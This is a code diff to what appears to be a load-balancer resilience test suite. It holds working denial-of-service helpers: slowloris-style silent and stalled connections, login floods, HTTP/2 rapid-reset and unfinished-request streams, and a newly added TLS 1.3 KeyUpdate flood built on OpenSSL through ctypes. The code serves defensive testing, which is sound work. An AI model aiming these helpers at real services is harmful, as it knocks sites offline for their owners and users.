@@ -1,12 +1,15 @@
 """Visitors who mean ill, each from addresses of their own: what they send, and what came back."""
 
 import contextlib
+import ctypes
+import ctypes.util
 import http.client
 import json
 import resource
 import socket
 import ssl
 import subprocess
+import time
 from collections import Counter
 from collections.abc import Callable, Generator, Iterator, Sequence
 from concurrent.futures import ThreadPoolExecutor
@@ -18,7 +21,7 @@ import h2.events
 import h2.exceptions
 import h2.settings
 
-ANSWER = 20.0
+ANSWER_TIMEOUT = 20.0
 """Seconds that an attacker waits for an answer; longer than any of the load balancer's."""
 
 
@@ -37,7 +40,7 @@ def addresses(count: int) -> Generator[list[str]]:
 
 
 @contextmanager
-def many_files(count: int) -> Generator[None]:
+def file_limit(count: int) -> Generator[None]:
     """Lets this process have so many files open."""
     before = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (count, max(count, before[1])))
@@ -48,13 +51,13 @@ def many_files(count: int) -> Generator[None]:
 
 
 @contextmanager
-def silent(site: str, port: int, sources: Sequence[str], count: int) -> Generator[None]:
+def silent_connections(site: str, port: int, sources: Sequence[str], count: int) -> Generator[None]:
     """Opens `count` connections from each address, and says nothing on any of them."""
     with ExitStack() as kept:
         for source in sources:
             for _ in range(count):
                 with contextlib.suppress(OSError):  # one that is refused is no failure of the attacker's
-                    kept.enter_context(socket.create_connection((site, port), ANSWER, (source, 0)))
+                    kept.enter_context(socket.create_connection((site, port), ANSWER_TIMEOUT, (source, 0)))
         yield
 
 
@@ -65,22 +68,22 @@ def _unverified() -> ssl.SSLContext:
     return context
 
 
-def encrypted(site: str, source: str, protocols: Sequence[str] = ("http/1.1",)) -> ssl.SSLSocket:
+def tls_connection(site: str, source: str, protocols: Sequence[str] = ("http/1.1",)) -> ssl.SSLSocket:
     """A TLS connection from one address."""
     context = _unverified()
     context.set_alpn_protocols(list(protocols))
-    return context.wrap_socket(socket.create_connection((site, 443), ANSWER, (source, 0)))
+    return context.wrap_socket(socket.create_connection((site, 443), ANSWER_TIMEOUT, (source, 0)))
 
 
 @contextmanager
-def slow(site: str, sources: Sequence[str], count: int, *, begins: bytes) -> Generator[list[ssl.SSLSocket]]:
-    """Connections that send `begins` and then neither send nor read anything."""
+def stalled_connections(site: str, sources: Sequence[str], count: int, *, head: bytes) -> Generator[list[ssl.SSLSocket]]:
+    """Connections that send `head` and then neither send nor read anything."""
     with ExitStack() as kept:
         opened: list[ssl.SSLSocket] = []
         for source in sources:
             for _ in range(count):
-                connection = kept.enter_context(encrypted(site, source))
-                connection.sendall(begins)
+                connection = kept.enter_context(tls_connection(site, source))
+                connection.sendall(head)
                 opened.append(connection)
         yield opened
 
@@ -93,7 +96,7 @@ def log_ins(site: str, source: str, paths: Sequence[str], *, email: str | None =
     context = _unverified()
     found: list[tuple[int, str | None]] = []
     for path in paths:
-        caller = http.client.HTTPSConnection(site, timeout=ANSWER, context=context, source_address=(source, 0))
+        caller = http.client.HTTPSConnection(site, timeout=ANSWER_TIMEOUT, context=context, source_address=(source, 0))
         body = json.dumps({"email": email, "password": "a password that nobody has"} if email else {})
         with contextlib.closing(caller):
             try:
@@ -107,7 +110,7 @@ def log_ins(site: str, source: str, paths: Sequence[str], *, email: str | None =
     return found
 
 
-def flood_of_log_ins(site: str, sources: Sequence[str], *, clients: int, tries: int) -> list[tuple[int, str | None]]:
+def log_in_flood(site: str, sources: Sequence[str], *, clients: int, tries: int) -> list[tuple[int, str | None]]:
     """So many clients at once, spread over the addresses, each trying so often."""
     with ThreadPoolExecutor(clients) as pool:
         runs = [
@@ -123,7 +126,7 @@ def streams(site: str, source: str, path: str, count: int, *, reset: bool) -> Co
     How often each status came, `refused` for a stream that the server reset, and `closed` where it ended the connection.
     """
     found: Counter[str] = Counter()
-    with encrypted(site, source, ["h2"]) as line:
+    with tls_connection(site, source, ["h2"]) as line:
         client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
         client.initiate_connection()
         line.sendall(client.data_to_send())
@@ -140,14 +143,14 @@ def streams(site: str, source: str, path: str, count: int, *, reset: bool) -> Co
                 line.sendall(client.data_to_send())
                 if reset and sent == count:
                     break
-                ended += _heard(client, line, found)
+                ended += _receive(client, line, found)
         except (OSError, h2.exceptions.ProtocolError):
             found["closed"] += 1
     return found
 
 
 @contextmanager
-def endless(site: str, source: str, path: str, count: int, *, answered: bool = False) -> Generator[Callable[[], Counter[str]]]:
+def unfinished_requests(site: str, source: str, path: str, count: int, *, answered: bool = False) -> Generator[Callable[[], Counter[str]]]:
     """Begins `count` requests from one address, a hundred on each connection of HTTP/2, and never ends the body of any; with `answered` it
     ends them and takes no byte of any answer's body.
 
@@ -157,7 +160,7 @@ def endless(site: str, source: str, path: str, count: int, *, answered: bool = F
     with ExitStack() as kept:
         opened: list[tuple[h2.connection.H2Connection, ssl.SSLSocket]] = []
         while count > 0:
-            line = kept.enter_context(encrypted(site, source, ["h2"]))
+            line = kept.enter_context(tls_connection(site, source, ["h2"]))
             client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
             client.initiate_connection()
             if answered:
@@ -176,13 +179,13 @@ def endless(site: str, source: str, path: str, count: int, *, answered: bool = F
             for client, line in opened:
                 with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError, ConnectionResetError):
                     while True:
-                        _heard(client, line, found)
+                        _receive(client, line, found)
             return found
 
         yield answers
 
 
-def _heard(client: h2.connection.H2Connection, line: ssl.SSLSocket, found: Counter[str]) -> int:
+def _receive(client: h2.connection.H2Connection, line: ssl.SSLSocket, found: Counter[str]) -> int:
     """Takes in what has come; how many streams ended with it. Raises OSError where the server has closed the connection."""
     data = line.recv(65536)
     if not data:
@@ -206,7 +209,72 @@ def _heard(client: h2.connection.H2Connection, line: ssl.SSLSocket, found: Count
     return ended
 
 
-def closed(connections: Sequence[ssl.SSLSocket]) -> Iterator[bool]:
+def _openssl() -> ctypes.CDLL:
+    """OpenSSL itself: Python's `ssl` has no call for a KeyUpdate. What it links to finds libcrypto's names too."""
+    library = ctypes.CDLL(ctypes.util.find_library("ssl") or "libssl.so.3")
+    pointer = ctypes.c_void_p
+    for name, result, arguments in (
+        ("TLS_client_method", pointer, []),
+        ("SSL_CTX_new", pointer, [pointer]),
+        ("SSL_CTX_free", None, [pointer]),
+        ("SSL_new", pointer, [pointer]),
+        ("SSL_free", None, [pointer]),
+        ("SSL_set_fd", ctypes.c_int, [pointer, ctypes.c_int]),
+        ("SSL_connect", ctypes.c_int, [pointer]),
+        ("SSL_write", ctypes.c_int, [pointer, ctypes.c_char_p, ctypes.c_int]),
+        ("SSL_read", ctypes.c_int, [pointer, ctypes.c_char_p, ctypes.c_int]),
+        ("SSL_set0_wbio", None, [pointer, pointer]),
+        ("SSL_key_update", ctypes.c_int, [pointer, ctypes.c_int]),
+        ("SSL_do_handshake", ctypes.c_int, [pointer]),
+        ("BIO_s_mem", pointer, []),
+        ("BIO_new", pointer, [pointer]),
+        ("BIO_read", ctypes.c_int, [pointer, ctypes.c_char_p, ctypes.c_int]),
+    ):
+        function = getattr(library, name)
+        function.restype, function.argtypes = result, arguments
+    return library
+
+
+def key_updates(site: str, source: str, count: int, *, seconds: float) -> int:
+    """Says `count` times on one connection that its keys change (RFC 8446, section 4.6.3), as fast as the line takes it: made first, then
+    sent. Ends after so many seconds, or where the server ends the connection; the bytes that it could send.
+    """
+    library = _openssl()
+    context = library.SSL_CTX_new(library.TLS_client_method())
+    with socket.create_connection((site, 443), ANSWER_TIMEOUT, (source, 0)) as line:
+        line.settimeout(None)  # OpenSSL's calls wait
+        client = library.SSL_new(context)
+        try:
+            library.SSL_set_fd(client, line.fileno())
+            if library.SSL_connect(client) != 1:
+                raise ConnectionError("no TLS")
+            # After its first answer a connection may be silent for a minute: so long there is for making the flood.
+            request = b"GET /static/shop.css HTTP/1.1\r\nHost: shop\r\n\r\n"
+            if (
+                library.SSL_write(client, request, len(request)) != len(request)
+                or library.SSL_read(client, ctypes.create_string_buffer(1000), 1000) <= 0
+            ):
+                raise ConnectionError("no answer")
+            memory = library.BIO_new(library.BIO_s_mem())
+            library.SSL_set0_wbio(client, memory)
+            for _ in range(count):
+                if library.SSL_key_update(client, 0) != 1 or library.SSL_do_handshake(client) != 1:
+                    raise ConnectionError("TLS 1.3 was not agreed on")
+            made = ctypes.create_string_buffer(64 * count)
+            flood = memoryview(made)[: library.BIO_read(memory, made, len(made))]
+            sent, end = 0, time.monotonic() + seconds
+            line.settimeout(0.5)
+            with contextlib.suppress(ConnectionError):
+                while sent < len(flood) and time.monotonic() < end:
+                    with contextlib.suppress(TimeoutError):
+                        sent += line.send(flood[sent : sent + 262_144])
+            return sent
+        finally:
+            library.SSL_free(client)
+            library.SSL_CTX_free(context)
+
+
+def are_closed(connections: Sequence[ssl.SSLSocket]) -> Iterator[bool]:
     """Of each connection whether the server has ended it; what it had sent is read away."""
     for connection in connections:
         connection.settimeout(0)
